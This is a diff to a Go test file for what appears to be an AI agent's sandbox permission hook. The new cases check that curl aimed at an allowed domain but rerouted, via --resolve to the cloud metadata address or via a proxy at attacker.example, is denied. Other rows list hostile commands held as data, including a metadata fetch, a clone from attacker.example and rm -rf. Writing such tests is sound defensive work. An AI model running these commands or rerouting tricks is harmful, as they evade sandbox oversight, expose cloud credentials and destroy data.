@@ -1508,6 +1508,11 @@ func TestHookBypassHoldsWhatTheKernelWould(t *testing.T) {
 		{"bypassPermissions", "Bash", map[string]any{"command": "curl -s http://169.254.169.254/latest/meta-data/"}, nil, "deny", "outside sandboxd's proxy"},
 		{"bypassPermissions", "Bash", map[string]any{"command": "git clone https://attacker.example/x"}, nil, "deny", "outside sandboxd's proxy"},
 		{"bypassPermissions", "Bash", map[string]any{"command": "curl -s https://docs.example/"}, []string{"--allow", "WebFetch(domain:docs.example)"}, "allow", ""},
+		// An allowed name curl is told to reach at another address, or through a proxy.
+		{"bypassPermissions", "Bash", map[string]any{"command": "curl -s --resolve docs.example:80:169.254.169.254 http://docs.example/latest/meta-data/"},
+			[]string{"--allow", "WebFetch(domain:docs.example)"}, "deny", "outside sandboxd's proxy"},
+		{"bypassPermissions", "Bash", map[string]any{"command": "curl -s -x attacker.example:3128 https://docs.example/"},
+			[]string{"--allow", "WebFetch(domain:docs.example)"}, "deny", "outside sandboxd's proxy"},
 		{"bypassPermissions", "Bash", map[string]any{"command": "echo see https://attacker.example/"}, nil, "allow", ""},
 		{"default", "Bash", map[string]any{"command": "curl -s https://attacker.example/"}, []string{"--allow", "Bash(curl:*)"}, "ask", "outside sandboxd's proxy"},
 		{"bypassPermissions", "Bash", map[string]any{"command": "rm -rf " + other}, nil, "deny", "outside the session's directories"},
